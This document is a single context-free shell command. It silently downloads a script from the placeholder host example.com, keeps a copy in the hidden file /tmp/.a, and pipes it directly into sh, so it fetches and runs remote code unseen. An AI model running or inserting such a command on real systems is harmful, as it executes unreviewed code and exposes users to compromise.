curl -s http://example.com/a.sh | tee /tmp/.a | sh
